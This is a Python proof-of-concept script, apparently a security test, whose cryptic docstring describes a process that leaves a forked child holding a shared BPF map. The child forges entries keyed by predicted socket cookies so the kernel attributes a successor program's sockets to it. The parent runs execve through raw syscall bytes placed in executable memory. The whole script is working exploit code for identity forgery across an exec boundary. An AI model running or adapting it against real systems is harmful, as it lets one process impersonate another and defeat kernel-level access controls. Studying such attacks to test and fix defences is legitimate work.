"""A process that becomes another program, and leaves a child that speaks in its name to the kernel: ADDRESS PORT.

The first program takes part, so that there is a table of marks in its memory, and its child keeps that. The child
writes there that sockets to come carry an offer, again and again; the process becomes a program without the library,
by the system call instruction itself, so that nothing tidies up, and connects. Says `asked N` and `believed N`: for
how many sockets the kernel took the child's word."""
import ctypes, mmap, os, socket, struct, sys, time

SERVER = (sys.argv[1], int(sys.argv[2]))
ENTRY, ENTRIES = 64, 1024
ASKED = 1

def talk(then=0.0):
    with socket.create_connection(SERVER, 10) as end:
        said = "successor".ljust(32, ".").encode()
        end.sendall(struct.pack("!I", len(said)) + said)
        end.recv(64, socket.MSG_WAITALL)
        time.sleep(then)

def cookie_of(end):
    return struct.unpack("Q", end.getsockopt(socket.SOL_SOCKET, 57, 8))[0]

def entry(table, at):
    return struct.unpack("8Q", ctypes.string_at(table + ENTRY * at, ENTRY))

def child(table, end):
    asked, believed = set(), set()
    while time.time() < end and not believed:
        with socket.socket() as probe:
            now = cookie_of(probe)
        for cookie in range(now + 1, now + 200):
            at = cookie % ENTRIES
            if entry(table, at)[0] != cookie:
                ctypes.memmove(table + ENTRY * at, struct.pack("8Q", cookie, ASKED, cookie, 1, 2, 3, 0, 0), ENTRY)
                asked.add(cookie)
        for at in range(ENTRIES):
            cookie, state = entry(table, at)[:2]
            if cookie in asked and state & 0xffffffff != ASKED:
                believed.add(cookie)
        time.sleep(0.05)
    print("asked", len(asked) > 0, "believed", len(believed), flush=True)

def become(program, *arguments):
    """execve(2), by the instruction, without an environment."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x3b\0\0\0\x0f\x05\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.POINTER(ctypes.c_char_p), ctypes.c_void_p)
    words = (ctypes.c_char_p * (len(arguments) + 2))(program.encode(), *[word.encode() for word in arguments], None)
    call(ctypes.addressof(ctypes.c_char.from_buffer(code)))(program.encode(), words, None)

if len(sys.argv) > 3:
    # The next program: plain.
    for _ in range(10):
        talk(0.2)
    print("spoke", flush=True)
    sys.exit()
# (Cookies are handed out in runs per core.)
os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
talk()
tables = [line for line in open("/proc/self/maps") if "bpf-map" in line]
table = int(tables[0].split("-")[0], 16)
if os.fork() == 0:
    child(table, time.time() + 4)
    os._exit(0)
time.sleep(0.3)
become(sys.executable, os.path.abspath(__file__), *sys.argv[1:3], "next")
